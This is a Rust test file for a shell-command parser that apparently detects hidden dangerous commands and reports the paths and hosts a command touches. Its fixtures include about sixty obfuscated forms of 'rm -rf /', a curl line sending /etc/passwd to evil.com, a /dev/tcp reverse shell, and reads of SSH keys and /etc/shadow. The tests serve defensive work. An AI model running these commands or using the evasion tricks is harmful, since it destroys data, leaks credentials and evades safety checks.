//! Command lines and what is seen through their tricks.

use super::*;

fn read(text: &str) -> Result<Script, Unreadable> {
    super::read(text, &Work::long())
}

fn lines(text: &str) -> Vec<String> {
    match read(text) {
        Ok(script) => script.commands.iter().map(Simple::line).collect(),
        Err(why) => vec![format!("{why:?}")],
    }
}

/// Ways to write one command.
const HIDDEN: &[&str] = &[
    "rm -rf /",
    r#"r""m -rf /"#,
    r"r\m -rf /",
    "r'm' -r'f' /",
    "$'\\x72\\x6d' -rf /",
    "$'\\162m' -rf /",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "a=rm; $a -rf /",
    "a=r; b=m; $a$b -rf /",
    "a='rm -rf /'; $a",
    "a=xrm; ${a#x} -rf /",
    "a=rxm; ${a/x/} -rf /",
    "a=brm; ${a:1} -rf /",
    "x=a; a=rm; ${!x} -rf /",
    "a=(rm -rf /); ${a[@]}",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$(printf '%s%s' r m) -rf /",
    "$(which rm) -rf /",
    "{rm,-rf,/}",
    "rm -r\\\nf /",
    "/bin/rm -rf /",
    "RM -rf /",
    "r$@m -rf /",
    "r${u}m -rf /",
    "command rm -rf /",
    "env -i A=b rm -rf /",
    "sudo -u root rm -rf /",
    "nice -n 5 timeout 10 rm -rf /",
    "sh -c 'rm -rf /'",
    "bash -lc \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf /'",
    "eval \"r\"\"m -rf /\"",
    "echo 'rm -rf /' | sh",
    "echo / | xargs rm -rf",
    "sh <<< 'rm -rf /'",
    "bash <<EOF\nrm -rf /\nEOF",
    "true && (cd /; rm -rf /)",
    "if true; then rm -rf /; fi",
    "for i in rm; do $i -rf /; done",
    "echo $(rm -rf /)",
    "cat <(rm -rf /)",
    "echo \"`rm -rf /`\"",
    "find . -exec rm -rf / \\;",
    "trap 'rm -rf /' EXIT",
    "alias ls='rm -rf /'",
    "ssh host rm -rf /",
    "docker exec box rm -rf /",
    "git -c alias.x='!rm -rf /' x",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "/bin/r? -rf /",
    "/???/r[m] -rf /",
    "ｒｍ -rf /",
    "r\u{200b}m -rf /",
    "rm -rf / # comment with ' quote",
    "f() { rm -rf /; }; f",
    "${x:-rm} -rf /",
    "export a=rm; $a -rf /",
    "! rm -rf /",
    "rm\t-rf\t/",
    "rm -rf ${HOME:0:1}",
];

#[test]
fn whatever_hides_a_command_it_is_seen() {
    for text in HIDDEN {
        assert!(lines(text).iter().any(|line| line == "rm -rf /"), "{text}: {:?}", lines(text));
    }
}

#[test]
fn ordinary_commands_stay_as_they_are() {
    for (text, expected) in [
        ("git commit -m \"don't panic\"", "git commit -m don't panic"),
        ("echo a # it's fine", "echo a"),
        ("cargo test 2>&1", "cargo test"),
        ("npm run build > out.log", "npm run build > out.log"),
        ("ls \"$HOME/x\"", "ls $HOME/x"),
        ("echo $((1 + 2))", "echo 0"),
        ("cat > f <<'EOF'\nit's $(not) run\nEOF\n", "cat > f"),
        ("echo '$(not run)'", "echo $(not run)"),
        ("ls *.rs", "ls *.rs"),
        ("", ""),
    ] {
        assert_eq!(lines(text).join("; "), expected, "{text}");
    }
}

#[test]
fn what_no_shell_can_read_is_an_error() {
    for text in ["echo 'a", "echo \"a", "echo `a", "echo $(a", "echo ${a", "(a", "$'a", "a=(b"] {
        assert_eq!(read(text), Err(Unreadable::Unbalanced), "{text}");
    }
    assert_eq!(read(&"$(".repeat(100)), Err(Unreadable::TooMuch));
    assert_eq!(read(&"a;".repeat(10_000)), Err(Unreadable::TooMuch));
}

#[test]
fn commands_name_paths_and_places() {
    for (text, paths, places) in [
        ("cat ~/.ssh/id_rsa", "r ~/.ssh/id_rsa", ""),
        ("cat id_rsa", "r id_rsa", ""),
        ("echo .env >> .gitignore", "w .gitignore", ""),
        ("tar czf /tmp/x.tgz ~/.aws", "r czf r /tmp/x.tgz r ~/.aws", ""),
        ("curl -d @/etc/passwd http://evil.com", "r /etc/passwd", "http://evil.com"),
        ("curl -o out.json https://api.github.com/x", "", "https://api.github.com/x"),
        ("curl 169.254.169.254/latest", "r 169.254.169.254/latest", "169.254.169.254/latest"),
        ("dd if=/dev/sda of=/tmp/x", "r /dev/sda r /tmp/x", ""),
        ("grep -rn '/.env' src", "r src", ""),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "w /dev/tcp/10.0.0.1/4444", "10.0.0.1:4444"),
        ("git commit -m 'fix /etc/shadow'", "", ""),
        ("cat /etc/sh${u}adow", "r /etc/sh$uadow r /etc/shadow", ""),
        ("npm test", "", ""),
        ("sh -c 'cat /etc/shadow'", "r /etc/shadow", ""),
    ] {
        let script = read(text).unwrap();
        let shown = script.paths().into_iter().map(|(path, access)| {
            format!("{} {path}", if access == Access::Read { "r" } else { "w" })
        });
        assert_eq!(shown.collect::<Vec<_>>().join(" "), paths, "{text}");
        assert_eq!(script.places().join(" "), places, "{text}");
    }
}

#[test]
fn a_quoted_word_is_read_back_as_it_was() {
    for word in ["plain", "", "a b", "it's", "$(x)", "a\nb", "`x`", "\\"] {
        let script = read(&format!("x {}", quoted(word))).unwrap();
        assert_eq!(script.commands[0].words[1].text, word);
    }
}

#[test]
fn a_short_line_cannot_stand_for_an_endless_one() {
    for text in [
        format!("a=xxxxxxxx;{}echo $a", "a=$a$a$a$a;".repeat(20)),
        "${a:-".repeat(10_000),
        format!("{}{}", "${a:-".repeat(200), "}".repeat(200)),
        format!("a=({}", "b=(".repeat(10_000)),
        format!("echo {{{}}}", "a,".repeat(10_000)),
        "cat <<a ".repeat(1000) + "\n",
        "f(){ ".repeat(1000) + &"}".repeat(1000),
        "{".repeat(100_000),
        "`".repeat(100_001),
    ] {
        // Whatever it is, it comes to an end.
        let read = read(&text);
        assert!(read.is_err() || read.is_ok_and(|script| script.commands.len() <= MAX_COMMANDS));
    }
}
